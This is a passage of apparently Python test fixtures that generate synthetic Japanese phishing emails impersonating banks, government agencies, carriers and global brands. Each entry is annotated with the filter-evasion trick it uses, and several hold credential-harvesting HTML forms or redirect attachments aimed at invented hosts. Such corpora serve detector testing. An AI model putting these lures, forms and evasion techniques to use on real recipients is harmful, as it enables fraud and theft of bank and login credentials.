    tr='tax-seizure threat (現在の国税庁なりすましcampaign); ISO-2022-JP with CP932 ①②③; brand FQDN prefix e-tax.nta.go.jp.nouzei-tetsuzuki.cn; spoofed nta.go.jp'))

A(P('nta-tax-refund-html-attachment', 'nta', '国税庁：還付金のお受け取りについて', '還付金のお知らせ',
    ['あなたの還付金 32,780円 の受け取り手続きが完了していません。添付の手続きフォームに口座情報を入力して送信してください。'],
    '', '', t={'nobtn'}, fn='国税庁 還付金センター', fa='kanpu@nta-kanpukin.top', recv=own('nta-kanpukin.top', '198.51.100.170'), enc='u8b',
    tr='HTML attachment form collecting bank account; refund lure',
    x=dict(att=[('kanpukin_tetsuzuki.html', 'text/html', '<html><head><meta charset="utf-8"><title>国税庁 還付金受取手続き</title></head><body><h2>還付金受取手続き</h2><form action="https://nta-kanpukin.top/recv" method="post">氏名<input name="name"><br>金融機関名<input name="bank"><br>口座番号<input name="acct"><br>暗証番号<input name="pin" type="password"><br><input type="submit" value="送信"></form></body></html>'.encode())])))

A(P('mynaportal-mynapoint-deadline-b64logo', 'myna', '【マイナポータル】マイナポイント付与期限のお知らせ', 'マイナポイントの申込期限が迫っています',
    ['マイナポイントの付与対象となっているお客様へのお知らせです。', 'お申し込みの期限は2025年11月30日です。期限を過ぎると、最大20,000円分のポイントを受け取ることができなくなります。'],
    'マイナポイントを申し込む', 'https://myna-point.go-jp.shinsei-portal.top/', t={'b64logo', 'pixel'}, greet='', fn='マイナポータル', fa='noreply@myna-point-go.top',
    recv=own('myna-point-go.top', '198.51.100.171'), enc='u8b', text=True, tr='government impersonation; data: base64 logo; tracking pixel; go-jp in subdomain'))

A(P('mynumber-card-expire-refresh-eucjp', 'myna', 'マイナンバーカード電子証明書の有効期限について', '電子証明書の更新手続き',
    ['マイナンバーカードの電子証明書の有効期限が近づいています。', '期限が切れると健康保険証として利用できなくなります。オンラインで更新手続きを行ってください。'],
    '更新手続きへ', 'https://mynumber-koushin.digital-go.cfd/renew', t={'refresh'}, greet='', fn='デジタル庁', fa='info@digital-go.cfd',
    recv=own('digital-go.cfd', '198.51.100.172', kind='isp'), enc='euc', tr='meta refresh; EUC-JP 8bit; health-insurance card pretext', x=dict(scs='ISO-2022-JP')))

A(P('nhk-receiving-fee-unpaid-q-subject', 'nhk', 'NHK受信料のお支払いについて【要対応】', '受信料お支払い状況のご確認',
    ['NHKからのお知らせです。', 'お客様の放送受信料について、2025年度分のお支払いが確認できておりません。至急、以下よりお支払い方法のご登録をお願いいたします。', 'お支払いが確認できない場合、割増金が発生する場合があります。'],
    'お支払い方法を登録する', 'https://nhk-jushinryo.shiharai-touroku.top/', greet='', fn='NHK', fa='info@nhk.or.jp',
    recv=spoof('shiharai-touroku.top', '203.0.113.180', kind='m365'), enc='u8q', text=True, tr='NHK fee lure with 割増金 threat; spoofed nhk.or.jp; subject Q-encoded', x=dict(sj='Q')))

A(P('tepco-electricity-refund-shown', 'tepco', '【東京電力】電気料金の過払いによる返金のお知らせ', '電気料金返金のお知らせ',
    ['いつも東京電力エナジーパートナーをご利用いただき、ありがとうございます。', '料金計算の誤りにより、お客様に電気料金の過払いが発生していることが判明しました。返金額：3,128円', 'くらしTEPCO webにログインし、返金先口座をご登録ください。'],
    '返金手続きを行う', 'https://kurashi-tepco.henkin-uketori.xyz/', greet='', shown='https://www.kurashi.tepco.co.jp/',
    fn='東京電力エナジーパートナー', fa='tepco@henkin-uketori.xyz', recv=own('henkin-uketori.xyz', '198.51.100.180'), enc='u8b', text=True,
    tr='refund lure; link text shows www.kurashi.tepco.co.jp; look-alike'))

# ---------------------------------------------------------------- global brands
A(P('apple-id-locked-onclick-en-mix', 'apple', 'Apple IDがロックされました。', 'Apple Accountがロックされています',
    ['お客様のApple Accountは、セキュリティ上の理由によりロックされています。', 'Apple Accountのロックを解除するには、本人確認を行う必要があります。', 'Your Apple Account has been locked for security reasons.'],
    'Apple Accountのロックを解除', 'https://appleid.apple.com.unlock-jp.icu/', t={'onclick'}, greet='', fn='Apple', fa='no_reply@email.apple.com',
    recv=spoof('unlock-jp.icu', '203.0.113.190'), enc='u8b', text=True, logo='https://www.apple.com/ac/globalnav/7/ja_JP/images/be15095f-5a20-57d0-ad14-cf4c638e223a/globalnav_apple_image__b5er5ngrzxqq_large.svg',
    tr='Japanese/English mix; onclick button; brand FQDN prefix appleid.apple.com.unlock-jp.icu; spoofed email.apple.com'))

A(P('apple-icloud-storage-full-short', 'apple', 'iCloudストレージがいっぱいです', '', [], '', '', fn='iCloud', fa='icloud@storage-apple.shop',
    recv=own('storage-apple.shop', '198.51.100.190'), enc='u88', tr='very short HTML; storage-full lure; invented host',
    x=dict(st='html', html='<div style="font-family:-apple-system,sans-serif;font-size:15px">写真や動画が削除される前に、ストレージを無料で50GBに増やしましょう。<br><br><a href="https://storage-apple.shop/icloud/?c=jp" style="background:#0071e3;color:#fff;padding:10px 20px;border-radius:20px;text-decoration:none">今すぐ受け取る</a></div>\n')))

A(P('microsoft-m365-password-expire-form', 'ms', 'Microsoft 365: パスワードの有効期限が本日切れます', 'パスワードの有効期限',
    ['taro.yamada@example.jp のパスワードは本日有効期限が切れます。', '同じパスワードを引き続き使用するには、以下で確認してください。'],
    '同じパスワードを使用する', 'https://login-microsoftonline.pw-keep.cfd/common/oauth2', t={'form'}, greet='', fn='Microsoft アカウント チーム',
    fa='account-security-noreply@accountprotection-ms.cfd', recv=own('accountprotection-ms.cfd', '198.51.100.191', kind='m365'), enc='u8b',
    tr='corporate M365 credential phish; login form in body; look-alike of accountprotection.microsoft.com'))

A(P('microsoft-sharepoint-shared-doc-html-attachment', 'ms', '山田さんがファイル「2025年度_賞与支給一覧.xlsx」を共有しました', 'ファイルが共有されました',
    ['山田 太郎 さんがあなたとファイルを共有しました。', '「2025年度_賞与支給一覧.xlsx」<br />このリンクは 2025/12/12 まで有効です。'],
    '開く', 'https://sharepoint-docs.office-view.top/:x:/g/personal/', greet='', fn='SharePoint Online', fa='no-reply@sharepointonline-view.top',
    recv=own('sharepointonline-view.top', '198.51.100.192', kind='m365'), enc='u8b', text=True,
    tr='SharePoint share lure (bonus list) + HTML attachment redirect; look-alike sender',
    x=dict(att=[('2025年度_賞与支給一覧.htm', 'text/html', b'<html><head><meta http-equiv="refresh" content="0;url=https://sharepoint-docs.office-view.top/login"></head><body>Loading...</body></html>')])))

A(P('line-account-verify-zw-and-hidden', 'line', '【LINE】本人確認のお願い', 'LINEアカウントの本人確認',
    ['LINEをご利用いただきありがとうございます。', 'お客様の' + zw('LINE') + 'アカウントが他の端末でログインされた可能性があります。', '引き続きご利用いただくには、以下より本人確認を行ってください。'],
    '本人確認', 'https://line-me.account-ninshou.top/auth', t={'hidden', 'fontzero'}, greet='', fn='LINE', fa='no-reply@line.me',
    recv=spoof('account-ninshou.top', '203.0.113.210'), enc='u8b', text=True, tr='zero-width in brand; font-size:0 junk inserted into keywords (ログイン/確認); hidden filler; spoofed line.me'))

A(P('netflix-payment-update-shown-euc', 'netflix', 'お支払い情報を更新してください', 'お支払いに問題があります',
    ['次回のお支払いを処理できませんでした。', 'Netflixのご利用を継続するには、お支払い情報を更新してください。'],
    'お支払い情報を更新', 'https://netflix-account.payment-jp.sbs/YourAccount', greet='', shown='https://www.netflix.com/YourAccount',
    fn='Netflix', fa='info@account.netflix.com', recv=spoof('payment-jp.sbs', '203.0.113.220', kind='isp'), enc='eucb', text=True,
    tr='link text shows www.netflix.com/YourAccount; spoofed info@account.netflix.com; EUC-JP base64'))

A(P('ana-mileage-expire-map-pixel', 'ana', '【ANAマイレージクラブ】マイル有効期限のお知らせ', 'マイルの有効期限が近づいています',
    ['ANAマイレージクラブ会員のお客様へ', '2025年12月末に有効期限を迎えるマイルがございます（8,400マイル）。期限延長をご希望の場合は、下記よりログインしてください。'],
    'ログインして延長', 'https://ana-mileage.club-login.shop/amc/', t={'map', 'pixel'}, greet='', fn='ANA', fa='amc@club-login.shop',
    recv=own('club-login.shop', '198.51.100.210'), enc='u8b', tr='image-map area; tracking pixel; mileage-expiry lure'))

A(P('jal-survey-reward-form-sjis', 'jal', '【JAL】お客様満足度アンケートご協力のお願い（謝礼 5,000円）', 'アンケートご協力のお願い',
    ['JALをご利用いただきありがとうございます。', 'アンケートにお答えいただいた方全員に、謝礼として5,000円をお支払いいたします。以下のフォームにカード情報をご入力ください（謝礼の振込に使用します）。'],
    '回答を送信', 'https://jal-survey.reward-jp.cfd/submit', t={'form'}, greet='', fn='JAL アンケート事務局', fa='survey@reward-jp.cfd',
    recv=own('reward-jp.cfd', '198.51.100.211'), enc='sjis', tr='survey-reward lure; form in body collecting card data; Shift_JIS 8bit'))

# ================================================================ batch 3
A(P('amazon-signin-alert-reply-to-sjis', 'amazon', 'Amazon.co.jp: 新しいデバイスからのサインインがありました', 'サインインの試行を確認しました',
    ['お客様のAmazonアカウントに新しいデバイスからサインインがありました。', '日時：2025年8月19日 3:12（JST）<br />デバイス：Android<br />場所：ベトナム ホーチミン',
     'お客様ご本人でない場合は、下記からアカウントを保護してください。'],
    'アカウントを保護する', 'https://amazon.co.jp-account-protect.vip/ap/cnep', greet='Amazonをご利用いただきありがとうございます。', shown='https://www.amazon.co.jp/ap/cnep',
    fn='Amazon.co.jp', fa='account-update@amazon.co.jp', recv=spoof('account-protect.vip', '203.0.113.45', kind='isp'), enc='sjis', text=True,
    tr='fake new-device sign-in alert; Reply-To to free mail; spoofed From; Shift_JIS 8bit', x=dict(rt='amazon.support.jp2025@gmail.com')))

A(P('amazon-prime-video-text-benign-html-phish', 'amazon', 'Prime Videoのご利用料金について', 'Prime Videoチャンネルのお支払い',
    ['Prime Videoチャンネルのお支払いが完了しませんでした。お支払い方法を更新しない場合、視聴が停止されます。'],
    '更新する', 'https://primevideo-channels.amzn-pay.buzz/update', fn='Prime Video', fa='primevideo@amzn-pay.buzz',
    recv=own('amzn-pay.buzz', '198.51.100.240'), enc='u8b',
    tr='text/plain part is harmless (no URL) while HTML part carries the phishing link; look-alike sender',
    x=dict(text='Prime Videoをご利用いただきありがとうございます。\n詳しくはHTML版メールをご覧ください。\n')))

A(P('smbc-statement-pdf-attachment-jis', 'smbc', '【三井住友カード】ご利用代金明細書（PDF）送付のお知らせ', 'ご利用代金明細書のご案内',
    ['今月のご利用代金明細書をPDFにて送付いたします。', '明細書に記載のURLより、お支払い金額をご確認ください。'],
    '', '', t={'nobtn'}, fn='三井住友カード', fa='statement@smbc-card-meisai.com', recv=own('smbc-card-meisai.com', '198.51.100.241', kind='isp'), enc='jis', text=True,
    tr='PDF attachment with link annotation; ISO-2022-JP; look-alike sender',
    x=dict(att=[('meisai_202509.pdf', 'application/pdf', lib.pdf_with_link('SMBC Card Statement 2025/09', ['Total: JPY 86,420', 'Payment date: 2025/10/27', 'Confirm details at Vpass:'], 'https://vpass.smbc-card-meisai.com/login'))])))

A(P('jcb-usage-alert-subject-split-midchar', 'jcb', '【JCB】カードご利用のお知らせ（海外でのご利用）', 'カードご利用のお知らせ',
    ['JCBカードのご利用がありました。', 'ご利用日時：2025/09/21 04:18<br />ご利用金額：98,500円<br />ご利用先：APPLE.COM/BILL（海外）', 'お心当たりのない場合は、下記よりご利用を停止してください。'],
    'ご利用を停止する', 'https://jcb-card-riyou.stop-teishi.top/', greet='', fn='JCB', fa='info@jcb-riyou.stop-teishi.top',
    recv=own('jcb-riyou.stop-teishi.top', '198.51.100.242'), enc='u8b', text=True,
    tr='UTF-8 subject split mid-character across encoded-words; fake usage alert', x=dict(split=13)))

A(P('ekinet-very-long-faq-jis', 'ekinet', '【えきねっと】会員情報確認のお願い', '会員情報確認のお願い',
    ['えきねっとをご利用いただき、誠にありがとうございます。', 'お客様のアカウントにおいて、不正ログインの可能性が検知されました。お客様情報の確認をお願いいたします。',
     'よくあるご質問<br />' + '<br />'.join('Q%d. %s<br />A. えきねっとのトップページからログインし、「会員メニュー」よりご確認いただけます。詳細はよくあるご質問をご確認ください。' % (i, q) for i, q in enumerate(['ログインできない', 'パスワードを忘れた', 'メールアドレスを変更したい', '退会したい', 'JRE POINTを連携したい', '予約の変更方法', '払戻し方法', '領収書の発行', 'えきねっとトクだ値について', 'チケットレスサービスについ'] * 3, 1))],
    '会員情報を確認する', 'https://eki-net.member-login.cfd/Personal/', greet='', fn='えきねっと', fa='info@member-login.cfd',
    recv=own('member-login.cfd', '198.51.100.243'), enc='jis', tr='very long mail (FAQ padding); ISO-2022-JP HTML only'))

A(P('etc-card-renewal-crlf-split', 'etc', '【ETCサービス】ETCカード有効期限のお知らせ', 'ETCカードの有効期限',
    ['ETCカードの有効期限が切れています。', '更新手続きをされないと、ETCレーンを通過できなくなります。'],
    '更新手続き', 'https://etc-koushin.meisai-jp.buzz/', fn='ETC利用照会サービス', fa='noreply@meisai-jp.buzz', recv=own('meisai-jp.buzz', '198.51.100.244', kind='m365'),
    enc='u8b', text=True, tr='CRLF; subject split mid-character; look-alike', x=dict(crlf=True, split=10)))

A(P('aeon-card-preheader-mismatch', 'aeon', 'イオンカード　会員情報の更新', 'お客様情報のご確認',
    ['いつもイオンカードをご利用いただき、誠にありがとうございます。', 'お客様の登録情報に不備があるため、カードのご利用を保留しております。'],
    '登録情報を更新', 'https://aeon-card.touroku-jouhou.icu/', pre='【イオン】今週のお買い得情報｜トップバリュ新商品のご案内', greet='', fn='イオンカード', fa='aeon-info@touroku-jouhou.icu',
    recv=own('touroku-jouhou.icu', '198.51.100.245'), enc='u8b', tr='preheader text is an innocuous sale newsletter line, body is a credential lure'))

A(P('rakuten-point-expire-userinfo-at', 'rakuten', '【楽天ポイント】期間限定ポイント失効のお知らせ', '期間限定ポイントが失効します',
    ['楽天会員様', 'お客様の期間限定ポイント 2,400ポイント が明日失効します。ポイントの延長手続きは以下からお願いいたします。'],
    'ポイントを延長する', 'https://point.rakuten.co.jp@rpoint-entyo.top/', greet='', shown='https://point.rakuten.co.jp/',
    fn='楽天ポイント', fa='point@rakuten.co.jp', recv=spoof('rpoint-entyo.top', '203.0.113.234'), enc='u8b', text=True, tr='userinfo @ trick in href; spoofed From'))

A(P('rakuten-order-inline-image-only', 'rakuten', '【楽天市場】注文内容ご確認（自動配信メール）', '',
    [], '', '', fn='楽天市場', fa='order@rakuten-ichiba-order.cn', recv=own('rakuten-ichiba-order.cn', '198.51.100.246'), enc='u8b',
    tr='image-only body (text rendered as inline cid image) wrapped in one link; no text for filters; related',
    x=dict(st='related', html='<html><body style="margin:0"><a href="https://rakuten-ichiba-order.cn/cancel?id=20251102"><img src="cid:order_img@rakuten" width="600" height="800" alt="" border="0"></a></body></html>\n',
           inline=[('order_img@rakuten', 'image/png', lib.tiny_png(8, 8, (191, 0, 0)))])))

A(P('paypay-security-sjis-meta-mismatch', 'paypay', 'PayPayセキュリティ確認', '不正利用の疑いがある取引',
    ['お客様のPayPayアカウントで不正利用の疑いがある取引を検知しました。', 'アカウントを保護するため、本人確認を行ってください。'],
    '本人確認', 'https://paypay-anzen.check-id.top/', greet='', fn='PayPay', fa='security@check-id.top', recv=own('check-id.top', '198.51.100.247'),
    enc='sjisb', hcs='UTF-8', tr='MIME charset Shift_JIS but HTML <meta> declares UTF-8'))

A(P('mercari-prize-short-plain-crlf', 'mercari', 'メルカリ10周年記念', '', [], '', '', fn='メルカリ', fa='info@mercari-10th.top', recv=own('mercari-10th.top', '198.51.100.248'), enc='u88',
    tr='very short; CRLF; prize lure', x=dict(html=None, st='plain', crlf=True, text='メルカリ10周年記念、抽選で1万ポイントをプレゼント中です。\nhttps://mercari-10th.top/c\n')))

A(P('au-bill-payment-fail-html-only', 'au', 'au料金のお支払いについて', 'ご利用料金お支払いのお願い',
    ['いつもauをご利用いただきありがとうございます。', 'ご登録のクレジットカードで決済ができませんでした。My auにログインし、お支払い方法をご確認ください。'],
    'My auにログイン', 'https://my-au.shiharai-kakunin.buzz/', shown='https://www.au.com/my-au/', greet='', fn='au', fa='info@au.com',
    recv=spoof('shiharai-kakunin.buzz', '203.0.113.250', kind='isp'), enc='u8q', tr='spoofed au.com; link text official'))

A(P('docomo-dpoint-expire-jis-rawfrom', 'docomo', 'dポイント失効のお知らせ', 'dポイントの有効期限',
    ['dポイントクラブ会員のお客様へ', '保有dポイント 6,100pt が今月末に失効します。ポイント交換は以下から。'],
    'dポイントを確認', 'https://dpoint-club.koukan-jp.top/', greet='', fn='dポイントクラブ', fa='dpoint@koukan-jp.top', recv=own('koukan-jp.top', '198.51.100.249', kind='isp'),
    enc='jis', text=True, tr='raw JIS display name; points lure', x=dict(rawjis=True)))

A(P('softbank-mypage-onclick-cp932', 'softbank', '【ソフトバンク】My SoftBank　ご契約内容の確認', 'ご契約内容確認のお願い',
    ['ソフトバンクをご利用いただきありがとうございます。', '㈱ソフトバンクでは、ご契約者様の本人確認を実施しております。My SoftBankにてご確認ください。'],
    'My SoftBankへ', 'https://my-softbank.keiyaku-kakunin.icu/', t={'onclick'}, greet='', fn='ソフトバンク', fa='info@keiyaku-kakunin.icu',
    recv=own('keiyaku-kakunin.icu', '198.51.100.13'), enc='cp932', tr='CP932 ㈱ char; onclick button'))

A(P('yucho-direct-otp-form-euc', 'yucho', 'ゆうちょダイレクト　ワンタイムパスワード再設定のお願い', 'ワンタイムパスワード再設定',
    ['ゆうちょダイレクトをご利用のお客さまへ', 'システム更新に伴い、ワンタイムパスワードの再設定が必要です。以下に入力してください。'],
    '送信', 'https://yucho-direct.otp-settei.top/post', t={'form'}, greet='', fn='ゆうちょ銀行', fa='direct@otp-settei.top',
    recv=own('otp-settei.top', '198.51.100.14'), enc='euc', tr='form in body; EUC-JP 8bit'))

A(P('mufg-eddy-refresh-pixel', 'mufg', '【三菱UFJ銀行】口座の利用停止について', '口座の利用停止のお知らせ',
    ['お客様の口座が不正利用される可能性があるため、一時的に利用を停止しております。'],
    '確認する', 'https://mufg-kouza.teishi-kaijo.top/', t={'refresh', 'pixel'}, greet='', fn='三菱UFJ銀行', fa='info@teishi-kaijo.top',
    recv=own('teishi-kaijo.top', '198.51.100.15'), enc='u8b', text=True, tr='meta refresh; tracking pixel; short body'))

A(P('mizuho-map-area-dmarc-fail', 'mizuho', '【みずほ銀行】お客さま情報・お取引目的等のご確認', 'ご確認のお願い',
    ['みずほ銀行をご利用いただきありがとうございます。', 'お取引目的等の確認にご協力をお願いいたします。'],
    '回答はこちら', 'https://mizuhobank.co.jp.kakunin-kaitou.top/', t={'map'}, greet='', fn='みずほ銀行', fa='info@mizuhobank.co.jp',
    recv=spoof('kakunin-kaitou.top', '203.0.113.13'), enc='u8b', text=True, tr='image map; brand FQDN prefix; spoofed (DMARC fail)'))

A(P('resona-mygate-sjis-short', 'resona', 'りそなマイゲート　ログイン確認', '', [], '', '', fn='りそな銀行', fa='mygate@resona-kakunin.sbs', recv=own('resona-kakunin.sbs', '198.51.100.16'), enc='sjis',
    tr='short Shift_JIS text/plain', x=dict(html=None, st='plain', text='りそなマイゲートに不審なログインがありました。\n本人確認：https://resona-kakunin.sbs/mg\n')))

A(P('sbi-sec-neo-mobile-qp-long-url', 'sbi', '【SBI証券】お客様の口座が凍結されました', '口座凍結のお知らせ',
    ['お客様の口座で不審な取引が確認されたため、口座を凍結しました。解除するには本人確認書類の提出が必要です。'],
    '書類を提出する', 'https://sbisec-kyc.upload-shorui.top/ETGate/?_ControlID=WPLETacR001Control&_PageID=DefaultPID&_DataStoreID=DSWPLETacR001Control&_ActionID=DefaultAID&getFlg=on&burl=search_home&cat1=home&cat2=none&dir=info&file=home_info',
    greet='', fn='SBI証券', fa='info@sbisec-kyc.top', recv=own('sbisec-kyc.top', '198.51.100.17', kind='m365'), enc='u8q', text=True,
    tr='long URL mimicking SBI ETGate parameters (QP soft line breaks inside URL)'))

A(P('nomura-shown-url-hidden', 'nomura', '野村證券からの重要なお知らせ', '不正アクセス対策のお願い',
    ['お客様の資産を守るため、ログインパスワードの変更をお願いしています。'],
    'パスワード変更', 'https://hometrade-nomura.pw-henkou.top/', t={'hidden'}, greet='', shown='https://hometrade.nomura.co.jp/', fn='野村證券', fa='info@nomura.co.jp',
    recv=spoof('pw-henkou.top', '203.0.113.14'), enc='u8b', text=True, tr='hidden filler text; link text official; spoofed'))

A(P('rakuten-sec-zip-report', 'rsec', '【楽天証券】取引報告書のご確認', '取引報告書',
    ['取引報告書を添付いたしました。パスワードはお客様の生年月日8桁ではなく、下記のとおりです。<br />パスワード：rs2025'],
    '', '', t={'nobtn'}, greet='', fn='楽天証券', fa='report@rakuten-sec-report.top', recv=own('rakuten-sec-report.top', '198.51.100.18'), enc='u8b', text=True,
    tr='password ZIP with HTML redirect inside; password in body',
    x=dict(att=[('torihiki_houkoku.zip', 'application/zip', lib.zipcrypto_zip('取引報告書.html', b'<html><head><meta http-equiv="refresh" content="0;url=https://rakuten-sec-report.top/login"></head></html>', 'rs2025'))])))

A(P('saison-pdf-invoice', 'saison', 'セゾンカード　ご利用明細確定のお知らせ', 'ご利用明細のご案内',
    ['今月のご利用明細が確定しました。添付PDFをご確認ください。'], '', '', t={'nobtn'}, greet='', fn='セゾンカード', fa='meisai@saison-meisai.cfd',
    recv=own('saison-meisai.cfd', '198.51.100.20'), enc='u8b', tr='PDF attachment with URI annotation',
    x=dict(att=[('Saison_meisai.pdf', 'application/pdf', lib.pdf_with_link('Saison Card Statement', ['Please log in to Net Answer to confirm.'], 'https://netanswer.saison-meisai.cfd/'))])))

A(P('epos-card-stop-jis-shown', 'epos', '【エポスカード】カードの一時停止について', 'カードのご利用一時停止',
    ['エポスカードをご利用いただきありがとうございます。', '不正利用の可能性があるため、カードのご利用を一時停止しました。'],
    'エポスNetでご確認', 'https://www.eposcard.co.jp.member-teishi.top/', greet='', shown='https://www.eposcard.co.jp/', fn='エポスカード', fa='info@eposcard.co.jp',
    recv=spoof('member-teishi.top', '203.0.113.15', kind='isp'), enc='jis', text=True, tr='brand FQDN prefix; spoofed; ISO-2022-JP'))

A(P('sagawa-sms-style-short-euc', 'sagawa', '佐川急便', '', [], '', '', fn='佐川急便', fa='sagawa@sgw-haitatsu.top', recv=own('sgw-haitatsu.top', '198.51.100.21'), enc='euc',
    tr='very short; EUC-JP text/plain', x=dict(html=None, st='plain', text='佐川急便よりお荷物の配達について確認をお願いします。\nhttps://sgw-haitatsu.top/s?7g\n')))

A(P('japanpost-address-incomplete-onclick', 'jpost', '【日本郵便】ご住所不明のためお荷物を保管しております', 'お荷物保管のお知らせ',
    ['ご住所の記載不備のため、お荷物をお届けできませんでした。以下よりご住所をご確認ください。', 'お問い合わせ番号：1234-5678-9012'],
    '住所を確認する', 'https://japanpost.jp-jusho.cfd/', t={'onclick'}, greet='', fn='日本郵便', fa='info@post.japanpost.jp',
    recv=spoof('jp-jusho.cfd', '203.0.113.16'), enc='u8b', text=True, tr='onclick button; spoofed post.japanpost.jp'))

A(P('nta-short-html-only', 'nta', '国税庁', '', [], '', '', fn='国税庁', fa='nta@kokuzei-tsuuchi.top', recv=own('kokuzei-tsuuchi.top', '198.51.100.22'), enc='u8b',
    tr='very short HTML only; seizure threat', x=dict(st='html', html='<p>【国税庁】未払い税金の最終通知です。本日中に納付がない場合、差押えとなります。<a href="https://kokuzei-tsuuchi.top/pay">納付する</a></p>\n')))

A(P('nhk-long-legal-text', 'nhk', 'NHK放送受信料　未払い通知', '受信料未払いのお知らせ',
    ['NHK放送受信料のお支払いが確認できておりません。放送法第64条に基づき、受信料をお支払いいただく必要があります。', '以下より未払い分をお支払いください。'],
    'お支払い', 'https://nhk-or-jp.jushinryo-pay.top/', greet='', after=LONG_TERMS, fn='NHK', fa='info@jushinryo-pay.top', recv=own('jushinryo-pay.top', '198.51.100.24'), enc='u8b',
    tr='long legal text padding; legal threat'))

A(P('tepco-electricity-stop-jis', 'tepco', '【東京電力】電気料金未払いによる供給停止のお知らせ', '電気の供給停止について',
    ['電気料金のお支払いが確認できないため、電気の供給を停止する予定です。', '停止予定日：2026年1月20日'],
    'お支払いはこちら', 'https://tepco-denki.kyoukyu-teishi.top/', greet='', fn='東京電力', fa='info@kyoukyu-teishi.top', recv=own('kyoukyu-teishi.top', '198.51.100.25', kind='isp'),
    enc='jis', text=True, tr='supply-stop threat; ISO-2022-JP'))

A(P('apple-subscription-receipt-fake', 'apple', '領収書：Apple Music ファミリープラン', 'ご購入ありがとうございます',
    ['ご請求先：Apple ID taro.yamada@example.jp', 'Apple Music ファミリープラン（1年）　¥16,800', 'このご購入にお心当たりがない場合は、24時間以内にキャンセルしてください。'],
    '購入をキャンセル', 'https://reportaproblem.apple.com.cancel-sub.top/', greet='', shown='https://reportaproblem.apple.com/', fn='Apple', fa='no_reply@email.apple.com',
    recv=spoof('cancel-sub.top', '203.0.113.18'), enc='u8b', text=True, tr='fake receipt cancel lure; brand FQDN prefix; spoofed email.apple.com'))

A(P('microsoft-voicemail-html-attachment', 'ms', '新しいボイスメール（0:42）- 03-5xxx-1234', 'ボイスメールを受信しました',
    ['03-5xxx-1234 からボイスメールが届いています。添付ファイルを開いて再生してください。'], '', '', t={'nobtn'}, greet='', fn='Microsoft Teams',
    fa='voicemail@teams-voice.top', recv=own('teams-voice.top', '198.51.100.26', kind='m365'), enc='u8b',
    tr='voicemail lure; HTML attachment with data: URL and meta refresh',
    x=dict(att=[('VoiceMessage_0042.html', 'text/html', ('<html><head><meta http-equiv="refresh" content="0;url=%s"></head></html>' % 'https://teams-voice.top/ms/login').encode())])))

A(P('line-pay-card-stop', 'line', 'LINE Pay 利用停止のお知らせ', 'LINE Payのご利用停止',
    ['LINE Payアカウントで不正な取引が検知されたため、ご利用を停止しています。'], '確認する', 'https://linepay-support.riyou-teishi.sbs/', greet='',
    fn='LINE Pay', fa='linepay@riyou-teishi.sbs', recv=own('riyou-teishi.sbs', '198.51.100.27'), enc='u8b', text=True, tr='LINE Pay lure; look-alike'))

A(P('netflix-short-plain-sjis', 'netflix', 'Netflix: アカウントが保留中です', '', [], '', '', fn='Netflix', fa='info@netflix-hold.top', recv=own('netflix-hold.top', '198.51.100.28'), enc='sjis',
    tr='short Shift_JIS plain', x=dict(html=None, st='plain', text='お支払いに問題があるため、アカウントを保留にしました。\nhttps://netflix-hold.top/jp\nNetflix\n')))

A(P('jal-mileage-dataurl', 'jal', 'JALマイレージバンク　マイル失効のお知らせ', 'マイルの失効について',
    ['JMB会員様', '12,000マイルが失効予定です。下記より延長手続きを行ってください。'], '延長手続き', 'https://jmb-mile.enchou.top/', t={'dataurl'}, greet='',
    fn='JAL', fa='jmb@enchou.top', recv=own('enchou.top', '198.51.100.29'), enc='u8b', tr='data: URL button'))

A(P('ana-sky-coin-campaign-cyrillic', 'ana', 'ANA SKY コイン 10,000コイン プレゼント', 'ANA SKY コインプレゼント',
    ['ANAマイレージクラブ会員限定キャンペーンにご当選されました。'], '受け取る', 'https://' + lib.punycode_host('аnа', '.co.jp-coin.top') + '/', greet='',
    shown='https://www.аnа.co.jp/amc/', fn='ANA', fa='campaign@ana-coin.top', recv=own('ana-coin.top', '198.51.100.30'), enc='u8b', text=True,
    tr='Cyrillic homoglyphs in displayed ana.co.jp; punycode href'))

A(P('compromised-jp-smallbiz-amazon-phish', 'amazon', 'Amazonアカウント情報の確認', 'アカウント情報の確認',
    ['Amazonをご利用いただきありがとうございます。お客様の請求先情報に問題があります。'], '確認', 'https://amazon-jp-billing.koushin-c.top/', greet='',
    fn='Amazon.co.jp', fa='info@yamakawa-kogyo-example.co.jp', recv=('isp', 'yamakawa-kogyo-example.co.jp', '198.51.100.31', 'mail.yamakawa-kogyo-example.co.jp', 'pass', 'yamakawa-kogyo-example.co.jp', 'none'),
    enc='jis', text=True, tr='sent from a (fictitious) compromised Japanese small-business domain; SPF/DKIM pass for that domain; brand only in display name'))

A(P('ekinet-freemail-sender-gmail', 'ekinet', 'えきねっと　アカウント確認', 'アカウント確認のお願い',
    ['えきねっとをご利用いただきありがとうございます。', 'ご登録のメールアドレスの確認ができておりません。下記よりログインしてください。'],
    'ログイン', 'https://ekinet-kakunin.jre-mail.top/', greet='', fn='えきねっと', fa='ekinet.jimukyoku2025@gmail.com',
    recv=('gmail', 'gmail.com', '209.85.220.41', 'mail-sor-f41.google.com', 'pass', 'gmail.com', 'pass'), enc='u8b', text=True,
    tr='sent from a free Gmail account (all auth passes for gmail.com); brand only in display name'))

A(P('rakuten-card-esp-click-wrapper', 'rcard', '【楽天カード】お支払い方法の再登録のお願い', 'お支払い方法の再登録',
    ['楽天カードをご利用いただきありがとうございます。', 'お引落し口座の確認が取れなかったため、お支払い方法の再登録をお願いしています。'],
    '再登録する', 'https://u4827731.ct.sendgrid.net/ls/click?upn=u001.Wk9xR2-2FkT7yZ0hq3nT-2BaZkD-3D_rcard_saitouroku', greet='', shown='https://www.rakuten-card.co.jp/e-navi/',
    fn='楽天カード', fa='info@rakuten-card-saitouroku.top', recv=own('rakuten-card-saitouroku.top', '198.51.100.32'), enc='u8b', text=True, t={'pixel'},
    tr='link wrapped by an ESP click-tracking redirect (sendgrid-style, invented path) that hides the final invented host; displayed text official URL; pixel'))
